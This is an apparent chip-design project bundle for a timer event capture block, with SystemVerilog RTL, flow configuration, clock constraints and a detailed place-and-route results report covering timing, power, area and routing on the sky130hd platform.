**src/rtl/timer_evt_pkg.sv**
```systemverilog
// Shared encodings and entry layout for the timer event capture block.
package timer_evt_pkg;

    typedef enum logic [1:0] {
        EVT_NONE  = 2'b00,
        EVT_MATCH = 2'b01,
        EVT_OVF   = 2'b10,
        EVT_BOTH  = 2'b11
    } evt_type_e;

    localparam int unsigned EVT_VAL_W  = 32;
    localparam int unsigned EVT_CHAN_W = 3;
    localparam int unsigned EVT_TYPE_W = 2;

    localparam logic [7:0] DROP_MAX = 8'hFF;

    // Entry layout: {type, chan, ts, val}
    function automatic int unsigned evt_entry_w(input int unsigned ts_w);
        return EVT_TYPE_W + EVT_CHAN_W + ts_w + EVT_VAL_W;
    endfunction

endpackage

```
**src/rtl/timer_event_capture_if.sv**
```systemverilog
// Event inputs, drain handshake and status outputs of timer_event_capture.
interface timer_event_capture_if #(
    parameter int unsigned DEPTH    = 8,
    parameter int unsigned TS_WIDTH = 16
);
    localparam int unsigned EW = timer_evt_pkg::evt_entry_w(TS_WIDTH);
    localparam int unsigned LW = $clog2(DEPTH) + 1;

    logic [31:0]   timer_val;
    logic          timer_match;
    logic          timer_overflow;
    logic [2:0]    chan_id;
    logic          clear;
    logic          evt_ready;
    logic          irq_ack;
    logic          evt_valid;
    logic [EW-1:0] evt_data;
    logic [LW-1:0] fill_level;
    logic [7:0]    drop_cnt;
    logic          irq;

    modport master (
        output timer_val, timer_match, timer_overflow, chan_id, clear, evt_ready, irq_ack,
        input  evt_valid, evt_data, fill_level, drop_cnt, irq
    );

    modport slave (
        input  timer_val, timer_match, timer_overflow, chan_id, clear, evt_ready, irq_ack,
        output evt_valid, evt_data, fill_level, drop_cnt, irq
    );
endinterface

```
**src/rtl/timer_evt_fifo.sv**
```systemverilog
// Generic show-ahead synchronous FIFO; head reads as zero while empty.
module timer_evt_fifo #(
    parameter int unsigned WIDTH = 8,
    parameter int unsigned DEPTH = 8
) (
    input  logic                     clk,
    input  logic                     rst,
    input  logic                     i_push,
    input  logic                     i_pop,
    input  logic                     i_clear,
    input  logic [WIDTH-1:0]         i_wdata,
    output logic [WIDTH-1:0]         o_rdata,
    output logic [$clog2(DEPTH):0]   o_level,
    output logic                     o_full,
    output logic                     o_empty
);
    localparam int unsigned AW = $clog2(DEPTH);

    logic [WIDTH-1:0] r_mem [DEPTH];
    logic [AW-1:0]    r_wr_ptr;
    logic [AW-1:0]    r_rd_ptr;
    logic [AW:0]      r_level;
    logic             w_push;
    logic             w_pop;

    assign o_empty = (r_level == '0);
    assign o_full  = (r_level == (AW+1)'(DEPTH));
    assign o_level = r_level;
    assign o_rdata = o_empty ? '0 : r_mem[r_rd_ptr];

    // A pop frees the slot the same-cycle push needs when full.
    assign w_pop  = i_pop && !o_empty;
    assign w_push = i_push && (!o_full || w_pop);

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            r_wr_ptr <= '0;
            r_rd_ptr <= '0;
            r_level  <= '0;
        end else if (i_clear) begin
            r_wr_ptr <= '0;
            r_rd_ptr <= '0;
            r_level  <= '0;
        end else begin
            if (w_push) r_wr_ptr <= r_wr_ptr + AW'(1);
            if (w_pop)  r_rd_ptr <= r_rd_ptr + AW'(1);
            r_level <= r_level + (AW+1)'(w_push) - (AW+1)'(w_pop);
        end
    end

    always_ff @(posedge clk) begin
        if (w_push && !i_clear) r_mem[r_wr_ptr] <= i_wdata;
    end
endmodule

```
**src/rtl/timer_event_capture.sv**
```systemverilog
// Timestamps timer match/overflow events, queues them and raises a level irq.
module timer_event_capture #(
    parameter int unsigned DEPTH      = 8,
    parameter int unsigned TS_WIDTH   = 16,
    parameter int unsigned IRQ_THRESH = 4
) (
    input logic                  clk,
    input logic                  rst,
    timer_event_capture_if.slave bus
);
    import timer_evt_pkg::*;

    localparam int unsigned EW = evt_entry_w(TS_WIDTH);
    localparam int unsigned LW = $clog2(DEPTH) + 1;

    logic [TS_WIDTH-1:0] r_ts;
    logic [7:0]          r_drop_cnt;
    logic                r_irq;

    logic [1:0]    w_type;
    logic          w_evt;
    logic          w_ovf;
    logic          w_full;
    logic          w_empty;
    logic          w_pop;
    logic          w_push;
    logic          w_drop;
    logic          w_irq_set;
    logic [LW-1:0] w_level;
    logic [LW-1:0] w_level_next;
    logic [EW-1:0] w_wdata;
    logic [EW-1:0] w_rdata;

    assign w_type  = {bus.timer_overflow, bus.timer_match};
    assign w_evt   = (w_type != EVT_NONE);
    assign w_ovf   = (w_type == EVT_OVF) || (w_type == EVT_BOTH);
    assign w_wdata = {w_type, bus.chan_id, r_ts, bus.timer_val};

    // Everything happening in a clear cycle is discarded, drops included.
    assign w_pop  = !w_empty && bus.evt_ready && !bus.clear;
    assign w_push = w_evt && !bus.clear && (!w_full || w_pop);
    assign w_drop = w_evt && !bus.clear && w_full && !w_pop;

    assign w_level_next = w_level + LW'(w_push) - LW'(w_pop);
    assign w_irq_set    = (w_level_next >= LW'(IRQ_THRESH)) || (w_push && w_ovf) || w_drop;

    timer_evt_fifo #(
        .WIDTH (EW),
        .DEPTH (DEPTH)
    ) u_fifo (
        .clk     (clk),
        .rst     (rst),
        .i_push  (w_push),
        .i_pop   (w_pop),
        .i_clear (bus.clear),
        .i_wdata (w_wdata),
        .o_rdata (w_rdata),
        .o_level (w_level),
        .o_full  (w_full),
        .o_empty (w_empty)
    );

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            r_ts       <= '0;
            r_drop_cnt <= '0;
            r_irq      <= 1'b0;
        end else begin
            r_ts <= r_ts + TS_WIDTH'(1);
            if (bus.clear) begin
                r_drop_cnt <= '0;
                r_irq      <= 1'b0;
            end else begin
                if (w_drop && (r_drop_cnt != DROP_MAX)) r_drop_cnt <= r_drop_cnt + 8'd1;
                // Set beats a same-cycle acknowledge.
                if (w_irq_set)        r_irq <= 1'b1;
                else if (bus.irq_ack) r_irq <= 1'b0;
            end
        end
    end

    assign bus.evt_valid  = !w_empty;
    assign bus.evt_data   = w_rdata;
    assign bus.fill_level = w_level;
    assign bus.drop_cnt   = r_drop_cnt;
    assign bus.irq        = r_irq;
endmodule

```
**src/flat_wrapper.sv**
```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module timer_event_capture_flat import timer_evt_pkg::*;
#(
    parameter int unsigned DEPTH      = 8,
    parameter int unsigned TS_WIDTH   = 16,
    parameter int unsigned IRQ_THRESH = 4
)
  (clk, rst, bus_timer_val, bus_timer_match, bus_timer_overflow, bus_chan_id, bus_clear, bus_evt_ready, bus_irq_ack, bus_evt_valid, bus_evt_data, bus_fill_level, bus_drop_cnt, bus_irq);
  timer_event_capture_if #(.DEPTH(DEPTH), .TS_WIDTH(TS_WIDTH)) bus_i ();
  input logic clk;
  input logic rst;
  input wire logic [$bits(bus_i.timer_val)-1:0] bus_timer_val;
  input wire logic [$bits(bus_i.timer_match)-1:0] bus_timer_match;
  input wire logic [$bits(bus_i.timer_overflow)-1:0] bus_timer_overflow;
  input wire logic [$bits(bus_i.chan_id)-1:0] bus_chan_id;
  input wire logic [$bits(bus_i.clear)-1:0] bus_clear;
  input wire logic [$bits(bus_i.evt_ready)-1:0] bus_evt_ready;
  input wire logic [$bits(bus_i.irq_ack)-1:0] bus_irq_ack;
  output wire logic [$bits(bus_i.evt_valid)-1:0] bus_evt_valid;
  output wire logic [$bits(bus_i.evt_data)-1:0] bus_evt_data;
  output wire logic [$bits(bus_i.fill_level)-1:0] bus_fill_level;
  output wire logic [$bits(bus_i.drop_cnt)-1:0] bus_drop_cnt;
  output wire logic [$bits(bus_i.irq)-1:0] bus_irq;
  assign bus_i.timer_val = bus_timer_val;
  assign bus_i.timer_match = bus_timer_match;
  assign bus_i.timer_overflow = bus_timer_overflow;
  assign bus_i.chan_id = bus_chan_id;
  assign bus_i.clear = bus_clear;
  assign bus_i.evt_ready = bus_evt_ready;
  assign bus_i.irq_ack = bus_irq_ack;
  assign bus_evt_valid = bus_i.evt_valid;
  assign bus_evt_data = bus_i.evt_data;
  assign bus_fill_level = bus_i.fill_level;
  assign bus_drop_cnt = bus_i.drop_cnt;
  assign bus_irq = bus_i.irq;
  timer_event_capture #(.DEPTH(DEPTH), .TS_WIDTH(TS_WIDTH), .IRQ_THRESH(IRQ_THRESH)) u_core (.clk(clk), .rst(rst), .bus(bus_i));
endmodule
```
**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = timer_event_capture_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/timer_evt_pkg.sv /design/src/rtl/timer_event_capture_if.sv /design/src/rtl/timer_evt_fifo.sv /design/src/rtl/timer_event_capture.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 5
export CORE_UTILIZATION = 59
export CTS_CLUSTER_DIAMETER = 50
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.8
export SLEW_MARGIN = 40
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 10 [get_ports clk]
set_input_delay 1 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
```
==> results.toml <==
[floorplanning]
boundaryPins = 109
start_util_pct = 59.87
core.rowCount = 63
chipHeight_um = 183.7
die-area_mm2 = 0.03373
fp.dieW_um = 183.7
coreArea_mm2 = 0.02972

[detailed_routing]
via_per_inst = 6.195
drt_iter0_drc = 579
vias = 8561
postRouteWirelength_mm = 34.40
wl_per_cell_um = 24.89
ant_nets = 0
drc = 0
firstDrtPassIters = 5

[flow_run]
cap_violations = 0

[pwr]
ir_drop_mv = 0.1423
p_sw_share_pct = 23.56
clkPwrFrac_pct = 35.2
power_frac_seq_pct = 47.4
finalPower_mw = 4.620
intPower_mw = 3.531
p_switching_mw = 1.089
leakage_nw = 6.873
powerDensity_mw_per_mm2 = 221.4
power_frac_comb_pct = 17.4

[timing]
fin_crit_sh_pct = 51.89
tightest_slew_ns = 0.8455
clock_skew_ns = 0.01754
hold_violations = 0
rsz0062_at_grt = "no"
final_max_slew_viol_count = 0
period_needed_ns = 5.189
max_freq_mhz = 192.7
fin_setup_tns_ns = 0
whs_ns = 0.5340
max_slew_margin_pct = 43.63
setup_viol = 0

[min_path]
holdCritStartpoint = "u_core/bus.drop_cnt[6]$_DFFE_PP0P_"
holdPathStages = 1
worstHoldEndpoint = "u_core/bus.drop_cnt[6]$_DFFE_PP0P_"
hp-class = "reg2reg"

[setup_path]
cp-end-kind = "primary output"
critPathKind = "reg2out"
rr_startpoint = "u_core/u_fifo/o_level[2]$_DFF_PP0_"
worstPathRequired_ns = 9.00
reg2reg_depth = 11
start_kind = "register"
arrival_ns = 4.19
r2r_end = "u_core/u_fifo/r_mem[7][29]$_DFFE_PP_"
cp_max_fo = 34
crit_start = "u_core/u_fifo/r_rd_ptr[0]$_DFFE_PP0P_"
regToRegSetupSlack_ns = 6.03

[cts]
holdBufCountCts = 0
post_cts_resized = 0
post-cts-setup-buffer-count = 0
cts_tree = "built"
clk_pin_slew_ns = 0.06
cts_root_buf = "clkbuf_16"
numClockSinks = 459
cts_buffer_depth = 3
clk_latency_ns = 0.53
htreeDepth = 2
numCtsBuffers = 45

[placed_design]
gp_congestion = 0.7689
place_hpwl_mm = 18.27
postPlaceCellArea_mm2 = 0.01941
io_buffers = 108

[cells_and_area]
final_cell_mix = "edfxtp_1, clkdlybuf4s50_1, mux4_2"
utilization_pct = 70.22
n_antenna_cell = 0
fin_nets = 1014
drive_gt1_share_pct = 21.67
layout_commonest_cell = "edfxtp_1"
fillers = 1729
synthToLayoutAreaGrowth_pct = 17.29
stdcell_area_mm2 = 0.02087

[grt]
antenna_found_initial = 1
grt_pass1_wl_mm = 54.03
first_global_vias = 9192
grt_overflow = 0
grt_use_total_pct = 20.94
grt_start_max_net_pins = 77

[yosys]
async_flop_share_pct = 7.625
synth_area_mm2 = 0.01779
synth-seq-cells = 459
synth_area_per_cell_um2 = 21.64
synth-edff-count = 424
synth_nets = 878
syn-instance-count = 822
synth.distinct_cells = 48
yosys_warnings = 6
synth_flop_cell = "edfxtp_1"
synth_seq_area_share_pct = 76.48

[run_status]
status = "finished clean"
## how the worst max path moves through the flow
stage	endpoint	slack, ns	depth (start not counted)
finish	bus_evt_data[44]	4.81	6
global route	bus_evt_data[44]	4.44	6
CTS	bus_evt_data[44]	4.66	6
detailed placement	bus_evt_data[44]	5.24	6
global placement	bus_evt_data[44]	5.13	5
floorplan	u_core/u_fifo/r_mem[2][0]$_DFFE_PP_	2.49	5
## critical path, stage by stage, from the launching register on
cell and delay, ns:
dfrtp_4 0.85, buf_4 0.65, buf_4 0.50, buf_12 0.28, mux4_2 0.52, a22o_1 0.31, clkdlybuf4s50_1 0.51
## power by group through the flow
stage / combinational, mW / clock, mW / sequential [mW]
floorplan: 0.483 / 0 / 2.21
global placement: 0.800 / 0 / 2.23
detailed placement: 0.811 / 0 / 2.23
CTS: 0.819 / 1.66 / 2.19
global route: 0.867 / 1.75 / 2.19
finish: 0.806 / 1.63 / 2.19
## routing by layer
layer	vias up	GRT usage, %	wire [µm]
li1	3704	-	-
met1	4502	29.26	13610
met2	308	35.93	18020
met3	45	2.988	2225
met4	2	4.708	541
met5	-	0	7
## area by class of cell
| class | instances | area [µm²] | share of cell area, % |
|---|---|---|---|
| multi-input combinational | 301 | 3954 | 18.95 |
| inverter | 25 | 93.84 | 0.4497 |
| clock buffer | 61 | 1289 | 6.175 |
| tap | 390 | 488.0 | 2.338 |
| timing repair buffer | 126 | 1264 | 6.055 |
| clock inverter | 20 | 165.2 | 0.7914 |
| sequential | 459 | 13620 | 65.24 |
## registers in the layout, summed over array words and instances, names as in the netlist
register                flops
u_core/r_ts                16
u_core/u_fifo/r_wr_ptr      3
u_core/bus.irq              1
u_core/bus.drop_cnt         8
u_core/u_fifo/o_level       4
u_core/u_fifo/r_rd_ptr      3
u_core/u_fifo/r_mem       424
## stage by stage
stage,setup slack (ns),std cells
2_1_floorplan,2.490,822
3_3_place_gp,5.126,1299
3_5_place_dp,5.239,1301
4_1_cts,4.657,1382
5_1_grt,4.444,1382
6_report,4.811,1382
## cells by family after synthesis
group / Yosys count / synth area share [%]
compound gates: 82 / 3.776
xor+xnor: 17 / 0.8368
fa+ha+maj: 14 / 1.027
buf+inv: 62 / 1.667
flops: 459 / 76.48
mux: 112 / 13.77
simple gates: 76 / 2.440
## cells in the mapped netlist, types with 8 or more instances
| cell | count | area share, % |
|---|---|---|
| nand3_1 | 13 | 0.37 |
| edfxtp_1 | 424 | 72 |
| a22o_1 | 53 | 2.6 |
| nand2_1 | 8 | 0.17 |
| dfrtp_1 | 35 | 4.9 |
| xnor2_1 | 11 | 0.54 |
| nor3_1 | 8 | 0.23 |
| nor2_1 | 12 | 0.25 |
| inv_1 | 23 | 0.49 |
| a21oi_1 | 8 | 0.23 |
| mux4_2 | 106 | 13 |
| ha_1 | 13 | 0.91 |
| clkbuf_1 | 14 | 0.30 |
| buf_2 | 18 | 0.51 |
No activity file was read; power rests on OpenSTA's default activity.
